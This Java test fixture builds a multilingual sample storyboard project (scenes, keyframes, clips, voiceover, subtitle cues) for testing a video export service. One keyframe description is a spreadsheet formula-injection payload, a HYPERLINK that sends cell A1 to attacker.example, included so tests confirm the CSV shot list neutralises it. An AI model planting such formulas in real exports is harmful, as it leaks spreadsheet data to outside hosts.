package ai.cinboard.service.export;

import ai.cinboard.domain.Character;
import ai.cinboard.domain.FinalVideo;
import ai.cinboard.domain.InputRecord;
import ai.cinboard.domain.Keyframe;
import ai.cinboard.domain.Project;
import ai.cinboard.domain.RecordStatus;
import ai.cinboard.domain.Scene;
import ai.cinboard.domain.SceneCharacter;
import ai.cinboard.domain.VideoClip;
import ai.cinboard.domain.Voiceover;
import java.awt.BasicStroke;
import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.RenderingHints;
import java.awt.image.BufferedImage;
import java.io.IOException;
import java.io.InputStream;
import java.math.BigDecimal;
import java.nio.file.Files;
import java.nio.file.NoSuchFileException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import javax.imageio.ImageIO;

/**
 * A small multilingual story rendered for tests: scene 1 (English, with a clip), scene 2 (Japanese, three
 * keyframes, no clip), scene 3 (Russian and Arabic, two keyframes, no clip), a voiceover and cue timings.
 * Positions are deliberately out of id order so that ordering bugs show. Keyframe PNGs are drawn with
 * Java2D into a temp dir and read back through a MediaReader over that dir.
 */
final class SampleProject {
    static final String JAPANESE = "雨の夜、駅のホームで二人は再会する。";
    static final String RUSSIAN = "Старый маяк стоит на краю обрыва.";
    static final String ARABIC = "مرحبا بالعالم";
    /** A keyframe description a spreadsheet would run, were it not neutralised in the CSV shot list. */
    static final String FORMULA = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Волны бьются о скалы.\")";

    final Path dir;
    final Project project;
    final MediaReader media;

    SampleProject(Path dir) throws IOException {
        this.dir = dir;
        List<Keyframe> keyframes = new ArrayList<>();
        int kid = 100;
        // scene id 11: Japanese, keyframes at 0, 1 and 3 s of a 4.2 s scene
        for (int seq = 0; seq < 3; seq++) {
            keyframes.add(keyframe(
                    kid++,
                    11,
                    seq,
                    new int[] {0, 1, 3}[seq],
                    "ショット" + (seq + 1) + "：傘をさした女性",
                    png("jp_" + seq + ".png", new Color(40 + seq * 60, 90, 160))));
        }
        // scene id 12: Russian + Arabic, keyframes at 0 and 2 s of a 3.5 s scene
        keyframes.add(keyframe(kid++, 12, 0, 0, RUSSIAN + " " + ARABIC, png("ru_0.png", new Color(160, 80, 40))));
        keyframes.add(keyframe(kid++, 12, 1, 2, FORMULA, png("ru_1.png", new Color(60, 140, 70))));
        // scene id 10 has a clip, and a keyframe too (shown in the PDF and PNG sequence)
        keyframes.add(keyframe(
                kid,
                10,
                0,
                0,
                "A lighthouse keeper, seen from the sea, at dusk",
                png("en_0.png", new Color(200, 170, 60))));

        List<Scene> scenes = List.of(
                scene(12, 3, 3, "EXT. МАЯК — НОЧЬ", RUSSIAN + "\n" + ARABIC + "\n\nАННА\nГде ты был?", "3.5"),
                scene(
                        10,
                        1,
                        1,
                        "EXT. LIGHTHOUSE, \"THE EDGE\" - DUSK",
                        "The keeper climbs the stairs, slowly.\n\nKEEPER\n(quietly)\nAnother night.",
                        "4.5"),
                scene(11, 2, 2, "駅のホーム・夜", JAPANESE + "\n美咲：「待ってたよ」", "4.2"));
        List<Character> characters = List.of(character(1, "Keeper"), character(2, "美咲"), character(3, "Анна"));
        List<SceneCharacter> cast = List.of(
                new SceneCharacter(10, 1),
                new SceneCharacter(11, 2),
                new SceneCharacter(12, 3),
                new SceneCharacter(12, 1));
        List<VideoClip> clips = List.of(new VideoClip(
                50,
                1,
                10,
                "clip-10",
                dir.resolve("clips/scene10.mp4").toString(),
                5,
                1000L,
                null,
                Map.of(),
                List.of(105),
                List.of(1),
                null));
        List<Voiceover> voiceovers = List.of(new Voiceover(
                70,
                1,
                dir.resolve("audio/voiceover.wav").toString(),
                11,
                2000L,
                Map.of("voice", "en"),
                null,
                "en",
                null));
        Map<String, Object> composition = Map.of(
                "cues",
                List.of(
                        Map.of("start", 0.5, "end", 3.0, "text", "The keeper climbs, slowly."),
                        Map.of("start", 2.8, "end", 4.4, "text", "KEEPER: Another night."),
                        Map.of("start", 5.0, "end", 8.0, "text", "美咲：「待ってたよ」"),
                        Map.of("start", 9.0, "end", 11.5, "text", "АННА: Где ты был?\n" + ARABIC)));
        List<FinalVideo> finals = List.of(new FinalVideo(
                80,
                1,
                dir.resolve("final.mp4").toString(),
                12,
                5000L,
                null,
                List.of(),
                composition,
                List.of(50),
                70,
                null,
                null));
        InputRecord record = new InputRecord(
                1,
                1,
                "The Lighthouse, Station, Night\n" + JAPANESE,
                40,
                "en",
                "0.9",
                null,
                RecordStatus.COMPLETED,
                null,
                null,
                null,
                null,
                null,
                null,
                null,
                null,
                null);
        project = new Project(
                record,
                List.of(),
                scenes,
                cast,
                characters,
                List.of(),
                keyframes,
                List.of(),
                clips,
                voiceovers,
                finals);
        media = url -> {
            Path p = Path.of(url);
            if (!Files.exists(p)) {
                throw new NoSuchFileException(url);
            }
            return Files.newInputStream(p);
        };
    }

    InputStream open(String url) throws IOException {
        return media.open(url);
    }

    private String png(String name, Color color) throws IOException {
        BufferedImage image = new BufferedImage(320, 180, BufferedImage.TYPE_INT_RGB);
        Graphics2D g = image.createGraphics();
        g.setRenderingHint(RenderingHints.KEY_ANTIALIASING, RenderingHints.VALUE_ANTIALIAS_ON);
        g.setColor(color);
        g.fillRect(0, 0, 320, 180);
        g.setColor(Color.WHITE);
        g.setStroke(new BasicStroke(6));
        g.drawOval(110, 40, 100, 100);
        g.drawLine(20, 160, 300, 160);
        g.dispose();
        Path file = dir.resolve("keyframes").resolve(name);
        Files.createDirectories(file.getParent());
        ImageIO.write(image, "png", file.toFile());
        return file.toString();
    }

    private static Keyframe keyframe(int id, int sceneId, int seq, int timing, String description, String url) {
        return new Keyframe(id, 1, sceneId, "kf-" + id, seq, description, url, timing, Map.of(), null, false, null);
    }

    private static Scene scene(int id, int number, int position, String heading, String text, String seconds) {
        return new Scene(id, 1, number, position, heading, null, null, text, new BigDecimal(seconds), null, null);
    }

    private static Character character(int id, String name) {
        return new Character(id, 1, "c" + id, name, name, "key" + id, null, Map.of(), null, null, null);
    }
}
